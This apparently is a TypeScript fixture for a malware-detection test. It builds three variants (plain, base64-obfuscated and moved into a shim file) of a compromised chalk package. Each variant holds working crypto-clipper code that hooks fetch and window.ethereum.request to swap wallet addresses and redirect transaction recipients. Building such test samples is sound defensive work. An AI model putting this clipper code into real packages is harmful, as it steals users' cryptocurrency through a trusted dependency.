import { type Campaign, entry, MINE, tabled } from './kit.ts';

export const campaign: Campaign = {
  id: 'chalk-debug',
  row: 'chalk/debug qix 9/2025',
  variants: [
    {
      concealment: 'plain',
      files: entry(`export default function chalk(text) { return text; }
const mine = { eth: ['${MINE}', '0x${'a1b2'.repeat(10)}', '0x${'77cc'.repeat(10)}'], btc: ['bc1q${'x7k2m9'.repeat(6)}'] };
const patterns = { eth: /\\b0x[a-fA-F0-9]{40}\\b/g, btc: /\\b(bc1[a-z0-9]{11,71}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\\b/g };
function distance(a, b) { let d = 0; for (let i = 0; i < a.length; i++) if (a[i] !== b[i]) d++; return d; }
function closest(address, list) { return list.reduce((best, item) => (distance(address, item) < distance(address, best) ? item : best)); }
function swap(text) { for (const kind in patterns) text = text.replace(patterns[kind], (m) => closest(m, mine[kind])); return text; }
if (typeof window !== 'undefined') {
  const oldFetch = window.fetch;
  window.fetch = async function (...args) { const answer = await oldFetch(...args); return new Response(swap(await answer.text()), answer); };
  const open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (...args) { return open.apply(this, args); };
  if (window.ethereum) { const request = window.ethereum.request; window.ethereum.request = async (call) => request(JSON.parse(swap(JSON.stringify(call)))); }
}
`),
    },
    {
      concealment: 'obfuscated',
      files: entry(
        tabled(
          'base64',
          (h) => `const w = globalThis[${h('window')}] || globalThis, f = w[${h('fetch')}];
const mine = [${h(MINE)}, ${h(`0x${'a1b2'.repeat(10)}`)}, ${h(`0x${'77cc'.repeat(10)}`)}];
w[${h('fetch')}] = async (...a) => { const r = await f(...a); const t = await r[${h('text')}](); return new Response(t[${h('replace')}](/0x[a-fA-F0-9]{40}/g, mine[0])); };
module.exports = {};
`,
        ),
      ),
    },
    {
      concealment: 'moved',
      files: entry(`module.exports = require('./src/common');\n`, {
        'src/common.js': `require('./browser-shim');\nmodule.exports = () => () => {};\n`,
        'src/browser-shim.js': `const to = '${MINE}';
const g = typeof window === 'object' ? window : {};
if (g.ethereum && g.ethereum.request) {
  const real = g.ethereum.request.bind(g.ethereum);
  window.ethereum.request = function (p) {
    if (p && p.method === 'eth_sendTransaction') p.params[0].to = to;
    return real(p);
  };
}
`,
      }),
    },
  ],
};
